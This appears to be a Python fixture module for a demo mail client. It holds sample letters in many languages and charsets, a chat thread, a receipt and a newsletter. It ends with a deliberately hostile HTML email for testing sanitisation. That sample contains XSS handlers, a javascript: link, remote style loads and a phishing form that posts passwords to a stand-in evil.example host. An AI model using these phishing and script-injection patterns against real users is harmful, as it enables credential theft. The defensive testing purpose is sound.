"""The words of the demo's mail."""

# ruff: noqa: RUF001 - the letters of other scripts are meant

from __future__ import annotations

from dataclasses import dataclass

_SEEN = ("\\Seen",)


@dataclass(frozen=True)
class Letter:
    """A mail of plain text."""

    sender: str
    subject: str
    text: str
    days_ago: float
    charset: str = "utf-8"
    folder: str = "INBOX"
    flags: tuple[str, ...] = ()


LETTERS = [
    Letter("Bob Carter <bob@demo.example>", "Lunch on Friday?", "Noon at the harbour?\n\nBob\n", 0.1),
    Letter("Bob Carter <bob@demo.example>", "Keys", "The spare keys are in the top drawer.\n", 8, flags=_SEEN),
    Letter(
        "Eve Fischer <eve@client.example>",
        "Question about delivery",
        "Hello Ann,\n\ncan you deliver to two addresses? We need 40 boxes in Kiel and 25 in Lübeck, if possible\n"
        "before the end of the month.\n\nKind regards\nEve Fischer\n",
        0.2,
    ),
    Letter(
        "Eve Fischer <eve@client.example>",
        "Order 7731",
        "Please confirm order 7731.\n\n> We need it on Monday.\n>> Which Monday?\n\nThe next one!\n\n-- \nEve\n",
        12,
        flags=(*_SEEN, "\\Answered"),
    ),
    Letter(
        "Fair Office <office@fair.example>",
        "Your registration 2291",
        "Your stand is B 14. Set up from 7 am. Plans: https://fair.example/plans/2291 (PDF).\n",
        5,
        flags=(*_SEEN, "\\Flagged"),
    ),
    Letter(
        "田中 美咲 <tanaka@tokyo.example>",
        "お見積りの件",
        "アン様\n\nお見積りをお送りいただけますか。\n\n田中\n",
        0.6,
        "iso-2022-jp",
    ),
    Letter(
        "髙橋 健 <takahashi@osaka.example>",
        "会議の日程",
        "来週の会議は火曜日の十時に変更になりました。\n",
        14,
        "utf-8",
        flags=_SEEN,
    ),
    Letter(
        "李娜 <lina@shanghai.example>",
        "关于发票的问题",
        "您好，\n\n请问发票什么时候可以寄出？\n\n谢谢！\n李娜\n",
        1.1,
        "gb18030",
    ),
    Letter("陳大文 <chan@taipei.example>", "樣品已收到", "樣品已收到，品質很好，謝謝。\n", 10, "big5", flags=_SEEN),
    Letter(
        "김민수 <kim@seoul.example>",
        "배송 문의",
        "안녕하세요.\n\n주문한 상품은 언제 도착하나요?\n\n감사합니다.\n",
        1.7,
        "euc-kr",
    ),
    Letter(
        "ليلى حسن <layla@cairo.example>", "موعد الاجتماع", "مرحبا،\n\nالاجتماع غدا الساعة العاشرة صباحا.\n\nليلى\n", 2.4
    ),
    Letter("דנה כהן <dana@haifa.example>", "שאלה קצרה", "שלום,\n\nמתי נוח לך לדבר?\n\nדנה\n", 16, flags=_SEEN),
    Letter(
        "Иван Петров <ivan@sofia.example>",
        "Вопрос по договору",
        "Добрый день,\n\nкогда подпишем договор?\n",
        3.3,
        "koi8-r",
    ),
    Letter("Γιώργος <giorgos@athens.example>", "Ερώτηση", "Καλημέρα, έχετε νέα;\n", 20, "iso-8859-7", flags=_SEEN),
    Letter(
        "Long Lines <lines@old.example>",
        "A paragraph on one line",
        " ".join(["Some programs write a whole paragraph on one line, and the reader has to wrap it."] * 25) + "\n",
        7,
        flags=_SEEN,
    ),
    Letter(
        "Security <noreply@provider.example>", "New sign-in to your account", "Was this you? Chrome on Linux.\n", 0.8
    ),
    Letter(
        "Ann Baker <ann@demo.example>", "Note to self", "Ask Bob about the keys.\n", 8.1, folder="Archive", flags=_SEEN
    ),
    Letter(
        "Old Supplier <info@supplier.example>",
        "Price list",
        "Our new prices hold from January.\n",
        90,
        folder="Archive",
        flags=_SEEN,
    ),
    Letter(
        "Party Committee <party@demo.example>",
        "🎉 Summer party 🎉",
        "Bring a friend 👩‍👩‍👧 and a salad 🥗.\n",
        45,
        folder="Archive",
        flags=_SEEN,
    ),
    Letter("Bob Carter <bob@demo.example>", "", "This one has no subject at all.\n", 11, flags=_SEEN),
]

CHAT = [
    "Hi Ann,\n\nshall we share a stand at the spring fair again?\n\nCarol\n",
    "Hi Carol,\n\ngladly. The same size as last year?\n\nAnn\n\n> shall we share a stand at the spring fair again?\n",
    "A bit larger would be good: 12 square metres?\n\n> The same size as last year?\n",
    "Fine. I will register us.\n\n> 12 square metres?\n",
    "Wonderful! I have a photo of last year's stand, I will send it.\n\n> I will register us.\n",
]

WEEKLY_REPORTS = [
    f"{state}\n\nHosts up: {up} of 48\nQueue, longest wait: {wait} s\nBackups: {backup}\n"
    for state, up, wait, backup in [
        ("all fine", 48, 11, "7 of 7"),
        ("one host down", 47, 38, "7 of 7"),
        ("all fine", 48, 9, "7 of 7"),
        ("a backup is missing", 48, 14, "6 of 7"),
        ("all fine", 48, 12, "7 of 7"),
    ]
]

RECEIPT_HTML = """<html><head><style>td { padding: 4px }</style></head>
<body style="font-family: Georgia, serif"><p><img src="cid:logo@harbour.example" alt="Harbour Café" width="160"></p>
<h2 style="color: #8c5028">Thank you!</h2>
<table border="0" cellpadding="6"><tr><td>House blend, 2 kg</td><td align="right">€ 42.00</td></tr>
<tr><td>Shipping</td><td align="right">€ 4.00</td></tr>
<tr><td><b>Total</b></td><td align="right"><b>€ 46.00</b></td></tr></table>
<p>Questions? <a href="mailto:shop@harbour.example">Write to us</a>.</p></body></html>
"""

NEWSLETTER_HTML = """<html><body bgcolor="#f4f4f4"><table width="600" align="center" bgcolor="#ffffff" cellpadding="16">
<tr><td><img src="https://images.gazette.example/header.png" width="568" height="120" alt="The Gazette"></td></tr>
<tr><td><h1 style="font: bold 24px Helvetica, sans-serif">Six ideas for quieter inboxes</h1>
<p style="line-height: 1.6">One: answer in batches. Two: unsubscribe without mercy. Three: let machines file
what machines sent. <a href="https://gazette.example/weekly?id=6">Read the other three</a></p>
<img src="https://images.gazette.example/chart.png" width="300" height="160" alt="A chart of mail per hour"></td></tr>
<tr><td style="font-size: 11px; color: #777777">You get this because you asked for it.
<a href="https://gazette.example/unsubscribe">Unsubscribe</a></td></tr></table>
<img src="https://track.gazette.example/open.gif?u=ann" width="1" height="1"></body></html>
"""

# Every trick here is inert once made safe, which is what the mail is for.
HOSTILE_HTML = """<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="1;url=https://evil.example">
<link rel="stylesheet" href="https://evil.example/x.css"><style>@import url(https://evil.example/y.css);
body { background: url(https://evil.example/bg.png) }</style></head>
<body onload="alert('load')" background="https://evil.example/b.png">
<script>alert('script')</script><img src="x" onerror="alert('image')"><svg onload="alert('svg')"></svg>
<div style="position: fixed; top: 0; left: 0; width: 100%; height: 100%; background: url(https://evil.example/z.png)">
<p>Dear customer, your account is <b>suspended</b>. <a href="javascript:alert('link')">Sign in</a> or
<a href="https://bank-of-nowhere.example/login">sign in here</a>.</p>
<form action="https://evil.example/steal" method="post"><input name="password" type="password" placeholder="Password">
<button>Continue</button></form><iframe src="https://evil.example/frame"></iframe>
<img srcset="https://evil.example/2x.png 2x" src="https://evil.example/1x.png"></div></body></html>
"""
